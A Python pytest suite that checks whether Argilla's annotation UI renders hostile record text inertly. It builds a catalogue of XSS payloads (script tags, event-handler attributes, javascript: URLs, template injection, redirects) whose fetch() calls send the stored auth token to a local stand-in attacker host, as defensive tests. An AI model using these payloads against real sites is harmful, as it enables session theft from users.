"""Whatever a record holds, an annotator's browser shows it as text and runs none of it.

Texts to annotate are scraped or written by models, so every place where one is shown is tried with every way that
is known to us to make a browser act. A canary stands for the attacker's host; the first test proves that it sings.
"""

import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any, NamedTuple

import pytest

CHROMIUM = Path("/usr/bin/chromium")
ARGUMENTS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]

pytestmark = pytest.mark.slow


class Canary(NamedTuple):
    url: str
    heard: list[str]


@pytest.fixture(scope="module")
def canary() -> Iterator[Canary]:
    """A host of the attacker's: what it is asked for has leaked. Its own page has no policy."""
    heard: list[str] = []

    class Hears(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(b"<title>canary</title><body>")

        def log_message(self, *_: Any) -> None:
            pass

    with HTTPServer(("127.0.0.1", 0), Hears) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield Canary(f"http://127.0.0.1:{server.server_port}", heard)
        server.shutdown()


def payloads(evil: str) -> dict[str, str]:
    """Ways to make a browser act, by name. Each says its name to the page and to the attacker."""

    def act(name: str) -> str:
        return (
            f"top.__ran=(top.__ran||[]).concat(`{name}`);top.document.title=`ran`;"
            f"fetch(`{evil}/{name}?`+top.localStorage[`auth._token.local`])"
        )

    return {
        "script": f"<script>{act('script')}</script>",
        "image": f"<img src=x onerror='{act('image')}'>",
        "svg": f"<svg onload='{act('svg')}'><animate onbegin='{act('animate')}' attributeName=x></svg>",
        "frame": f'<iframe srcdoc="<script>{act("frame")}</script>"></iframe>',
        "address": f'<iframe src="javascript:{act("address")}"></iframe><a href="javascript:{act("link")}">go</a>',
        "focus": f"<input autofocus onfocus='{act('focus')}'><details open ontoggle='{act('toggle')}'>d</details>",
        "escape": f"</textarea></title></style></script></iframe>--><script>{act('escape')}</script>",
        "template": "{{constructor.constructor('" + act("template") + "')()}}<div v-html=x @click=y></div>",
        "fetched": (
            f"<img src={evil}/img><link rel=stylesheet href={evil}/css><script src={evil}/js></script>"
            f"<iframe src={evil}/page></iframe><object data={evil}/object></object><embed src={evil}/embed>"
            f"<video src={evil}/video autoplay></video><style>body{{background:url({evil}/style)}}</style>"
        ),
        "led-away": (
            f'<meta http-equiv="refresh" content="0;url={evil}/meta"><base href="{evil}/">'
            f"<form action={evil}/form><button autofocus>b</button></form>"
        ),
        "defaced": "<style>body{display:none!important}</style><h1 style='position:fixed;inset:0'>gone</h1><b>bold</b>",
    }


def markdown(evil: str) -> str:
    """What markdown adds to it."""
    return (
        f'[go](javascript:top.__ran=1) ![seen]({evil}/markdown) ![x](x"onerror="top.__ran=1) <{evil}/auto>\n\n'
        "```html\n<script>top.__ran=1</script>\n```\n\n$\\href{javascript:top.__ran=1}{x}$\n\n"
        f"| a |\n|---|\n| <img src={evil}/cell onerror='top.__ran=1'> |\n"
    )


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    if not CHROMIUM.exists():
        pytest.skip(f"no browser ({CHROMIUM})")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGUMENTS)
        yield browser
        browser.close()


class Tab(NamedTuple):
    """An annotator's page, logged in. `asked` is every address that it asked for, `said` its errors."""

    page: Any
    asked: list[str]
    said: list[str]


@pytest.fixture
def open_tab(browser: Any, argilla: Any) -> Iterator[Callable[[str], Tab]]:
    tabs: list[Tab] = []

    def open_for(name: str) -> Tab:
        tab = Tab(browser.new_page(viewport={"width": 1400, "height": 1500}), [], [])
        tabs.append(tab)
        tab.page.on("request", lambda request: tab.asked.append(request.url))
        tab.page.on("requestfailed", lambda request: forget_if_stopped(tab, request))
        tab.page.on("pageerror", lambda error: tab.said.append(str(error)))
        tab.page.on("dialog", lambda dialog: (tab.said.append(dialog.message), dialog.dismiss()))
        log_in(tab.page, argilla, name)
        return tab

    yield open_for
    for tab in tabs:
        tab.page.close()


def forget_if_stopped(tab: Tab, request: Any) -> None:
    """What a hostile template asks for, and the policy keeps in the browser, has gone nowhere."""
    if request.failure == "csp":
        tab.asked.remove(request.url)


def log_in(page: Any, argilla: Any, name: str) -> None:
    page.goto(f"{argilla.url}/sign-in")
    page.fill("input[type=text]", name)
    page.fill("input[type=password]", argilla.accounts[name].password)
    page.click("button:has-text('Sign in')")
    page.wait_for_selector("text=Your datasets")


def test_the_canary_sings_where_nothing_protects(browser: Any, canary: Canary) -> None:
    page = browser.new_page()
    page.goto(canary.url)
    everything = "".join(payloads(canary.url)[name] for name in ("script", "image", "svg", "frame", "fetched"))
    page.evaluate("html => document.body.appendChild(document.createElement('iframe')).srcdoc = html", everything)
    page.wait_for_function("(top.__ran || []).length >= 4")
    assert set(page.evaluate("top.__ran")) >= {"script", "image", "svg", "frame"}
    page.close()
    assert {path.partition("?")[0] for path in canary.heard} >= {"/script", "/image", "/img", "/css", "/page"}


FIELDS = {
    "plain": {"type": "text", "use_markdown": False},
    "marked": {"type": "text", "use_markdown": True},
    "chat": {"type": "chat", "use_markdown": False},
    "marked_chat": {"type": "chat", "use_markdown": True},
    "custom": {"type": "custom", "template": "<div>{{record.fields.custom.x}}</div>", "advanced_mode": False},
}


def test_no_text_of_a_record_does_anything(
    argilla: Any, api: Any, make_dataset: Any, open_tab: Callable[[str], Tab], canary: Canary, tmp_path: Path
) -> None:
    canary.heard.clear()
    attacks = payloads(canary.url)
    hostile, formatted = "\n".join(attacks.values()), "\n\n".join([*attacks.values(), markdown(canary.url)])
    owner = api(argilla.url, argilla.api_key)
    number = make_hostile(owner, make_dataset, hostile, formatted, attacks["image"])
    tab = open_tab("ana")
    page = tab.page
    page.goto(f"{argilla.url}/dataset/{number}/annotation-mode")
    page.wait_for_selector(".text_field_component")
    page.wait_for_timeout(1000)
    page.screenshot(path=tmp_path / "hostile.png")

    shown_as_text(page, attacks, hostile, canary)
    suggested = page.locator("[contenteditable], textarea").first
    assert attacks["script"] in (suggested.text_content() or suggested.input_value())

    visit_the_rest(page, attacks, tmp_path)
    page.goto(f"{argilla.url}/dataset/{number}/annotation-mode?page=1&status=pending&_search=onerror")
    page.wait_for_selector(".text_field_component")
    nothing_happened(tab, argilla, canary)
    works_still(tab, owner, number)

    tab = open_tab("ben")
    tab.page.goto(f"{argilla.url}/dataset/{number}/annotation-mode")
    answer_two_in_bulk(tab.page, attacks, hostile, canary, tmp_path)
    nothing_happened(tab, argilla, canary)
    listed = owner.get(f"/datasets/{number}/records?include=responses").json()["items"]
    assert sum(len(record["responses"]) for record in listed) == 1 + 2

    tab = open_tab("owner")
    visit_settings(tab.page, f"{argilla.url}/dataset/{number}/settings", tmp_path)
    nothing_happened(tab, argilla, canary)


def shown_as_text(record: Any, attacks: dict[str, str], hostile: str, canary: Canary) -> None:
    """What is not markdown character by character, and HTML within markdown as its source."""
    texts, chats = record.locator(".text_field_component"), record.locator(".chat")
    assert texts.nth(0).locator(".content-area > div").text_content() == hostile
    said = [bubble.text_content() for bubble in chats.nth(0).locator(".chat__bubble > span").all()]
    assert said == [hostile, "second"]
    for place in (texts.nth(1), chats.nth(1)):
        source = place.text_content().replace("`", "")  # which markdown makes code of
        for name in ("script", "image", "svg", "frame", "escape", "fetched", "led-away", "defaced"):
            assert attacks[name].replace("`", "") in source, name
        assert f"![seen]({canary.url}/markdown)" in source
        assert place.locator("script, img, iframe, object, embed, form, style:not([scoped]), input").count() == 0


def answer_two_in_bulk(page: Any, attacks: dict[str, str], hostile: str, canary: Canary, shots: Path) -> None:
    """The view with several records one below the other, of which some are chosen and answered at once."""
    page.get_by_label("Switch to Bulk Mode").click()
    records = page.locator(".bulk__records > *")
    records.nth(1).wait_for()
    page.wait_for_timeout(1000)
    assert records.count() == 2  # the third is answered
    for number in range(2):
        shown_as_text(records.nth(number), attacks, hostile, canary)
    look_into_the_menu(page, records.first, attacks)
    for number in range(2):
        records.nth(number).locator(".fields__header--left .checkbox").click()
    page.screenshot(path=shots / "bulk.png")
    page.locator(".wrapper__form [contenteditable], .wrapper__form textarea").first.fill("both are the same")
    with page.expect_response(lambda answer: answer.url.endswith("/responses/bulk")) as answered:
        page.click("button[type=submit]")
    assert [one["error"] for one in answered.value.json()["items"]] == [None, None]


def look_into_the_menu(page: Any, record: Any, attacks: dict[str, str]) -> None:
    """Of one record: its metadata."""
    record.locator(".record-menu__header").click()
    record.locator(".record-menu__content button").first.click()
    page.wait_for_timeout(500)
    assert attacks["image"] in record.locator(".record-menu").text_content()
    page.keyboard.press("Escape")
    page.mouse.click(5, 5)


def test_the_policy_holds_even_where_the_ui_would_show_html(
    argilla: Any, open_tab: Callable[[str], Tab], canary: Canary
) -> None:
    canary.heard.clear()
    tab = open_tab("ana")
    attacks = payloads(canary.url)
    frame = "html => document.body.appendChild(document.createElement('iframe')).srcdoc = html"
    tab.page.evaluate(frame, "".join(attacks.values()))
    attacks.pop("led-away")  # no policy keeps a page's own HTML from leading it away; only a frame's
    tab.page.evaluate(
        "html => document.body.appendChild(document.createElement('div')).innerHTML = html", "".join(attacks.values())
    )
    tab.page.wait_for_timeout(2000)
    assert tab.page.evaluate("top.__ran") is None
    assert tab.page.title() == "Argilla"
    assert tab.page.url.startswith(argilla.url)
    assert canary.heard == []


def fields_with(template: str) -> dict[str, Any]:
    """A template may be hostile as well; the advanced mode runs its scripts."""
    return {**FIELDS, "advanced": {"type": "custom", "template": template, "advanced_mode": True}}


def make_hostile(owner: Any, make_dataset: Any, hostile: str, formatted: str, short: str) -> str:
    """Three equal records, hostile wherever text can be; `short` where some hundred characters are the most."""
    options = [{"value": "a", "text": short}, {"value": "b", "text": "b"}]
    say = {"name": "say", "title": "Say", "description": short, "required": True, "settings": {"type": "text"}}
    label = {"name": "label", "title": short, "settings": {"type": "label_selection", "options": options}}
    number = str(
        make_dataset(
            owner,
            "crowd",
            guidelines=formatted,
            fields=[{"name": name, "title": short, "settings": said} for name, said in fields_with(hostile).items()],
            questions=[say, {**label, "required": False}],
        )
    )
    terms = {"name": "terms", "title": short, "settings": {"type": "terms"}, "visible_for_annotators": True}
    assert owner.post(f"/datasets/{number}/metadata-properties", json=terms).is_success
    question = owner.get(f"/datasets/{number}/questions").json()["items"][0]["id"]
    fields = {
        "plain": hostile,
        "marked": formatted,
        "chat": [{"role": hostile[:20], "content": hostile}, {"role": "user", "content": "second"}],
        "marked_chat": [{"role": "user", "content": formatted}],
        "custom": {"x": f"</script>{hostile}"},
        "advanced": {"x": f"</script>{hostile}"},
    }
    suggestions = [{"question_id": question, "value": hostile, "agent": "script", "score": 0.5}]
    record = {"fields": fields, "metadata": {"terms": short}, "suggestions": suggestions}
    made = owner.post(f"/datasets/{number}/records/bulk", json={"items": [record] * 3})
    assert made.is_success, made.text
    return number


def visit_the_rest(page: Any, attacks: dict[str, str], shots: Path) -> None:
    """Everywhere else that an annotator can go."""
    page.click(".icon-info")
    page.wait_for_timeout(500)
    page.screenshot(path=shots / "tooltip.png")
    assert attacks["image"] in page.text_content(".fixed-tooltip__content")
    page.click("text=Guidelines")
    page.wait_for_timeout(500)
    assert attacks["script"] in page.text_content("body")
    page.click("text=Filters")
    page.click("text=Metadata")
    page.wait_for_timeout(500)
    page.locator(".dropdown__content").get_by_text("onerror").first.click()
    page.wait_for_timeout(500)
    page.screenshot(path=shots / "filters.png")


def visit_settings(page: Any, url: str, shots: Path) -> None:
    page.goto(url)
    page.click("button:has-text('Preview')")
    tabs = page.locator(".tab__button").all()
    assert len(tabs) >= 4
    for each in tabs:
        each.click()
        page.wait_for_timeout(700)
        page.screenshot(path=shots / f"settings-{each.get_attribute('id')}.png")


def nothing_happened(tab: Tab, argilla: Any, canary: Canary) -> None:
    assert tab.page.evaluate("top.__ran") is None
    assert tab.page.title() == "Argilla"
    assert tab.page.url.startswith(argilla.url)
    assert [url for url in tab.asked if not url.startswith((argilla.url, "data:", "about:", "blob:"))] == []
    assert canary.heard == []
    assert tab.said == []


def works_still(tab: Tab, owner: Any, number: str) -> None:
    with tab.page.expect_response(lambda answer: answer.url.endswith("/responses")) as answered:
        tab.page.click("button[type=submit]")
    assert answered.value.status == 201
    listed = owner.get(f"/datasets/{number}/records?include=responses").json()["items"]
    assert [one["status"] for record in listed for one in record["responses"]] == ["submitted"]


def test_a_megabyte_and_every_script_are_shown(
    argilla: Any, api: Any, make_dataset: Any, open_tab: Callable[[str], Tab], tmp_path: Path
) -> None:
    tab = open_tab("ana")
    page = tab.page
    owner = api(argilla.url, argilla.api_key)
    fields = [
        {"name": name, "required": False, "settings": FIELDS[name]} for name in ("plain", "marked", "marked_chat")
    ]
    question = {"name": "say", "required": True, "settings": {"type": "text"}}
    number = make_dataset(owner, "crowd", fields=fields, questions=[question])
    rare = "\u202eright to left\u202c שלום עולם مرحبا 👩‍👩‍👧‍👦 🏴󠁧󠁢󠁳󠁣󠁴󠁿 ẗ̴̢̛ 東京 \ufeff\u200b\u0007 &amp; &lt;b&gt; ﷽"
    long = "<i>word</i> " * 87_400 + "THE END"
    chat = [{"role": "user", "content": rare}, {"role": "assistant", "content": "مرحبا بالعالم"}]
    record = {"fields": {"plain": long, "marked": long, "marked_chat": chat}}
    assert len(long) > 2**20
    assert owner.post(f"/datasets/{number}/records/bulk", json={"items": [record]}).is_success

    page.goto(f"{argilla.url}/dataset/{number}/annotation-mode")
    page.wait_for_selector(".text_field_component", timeout=60_000)
    texts = page.locator(".text_field_component .content-area > div")
    assert texts.nth(0).text_content() == long
    assert texts.nth(1).text_content().strip() == long
    bubbles = [bubble.text_content() for bubble in page.locator(".chat__bubble .markdown-render").all()]
    assert [bubble.strip() for bubble in bubbles] == [
        rare.replace("&amp;", "&").replace("&lt;b&gt;", "<b>"),
        "مرحبا بالعالم",
    ]
    assert page.locator(".chat__bubble .--rtl").count() == 1
    page.locator(".chat").scroll_into_view_if_needed()
    page.screenshot(path=tmp_path / "scripts.png")
    page.fill("[contenteditable], textarea", "read to the end")
    works_still(tab, owner, number)
    assert tab.said == []
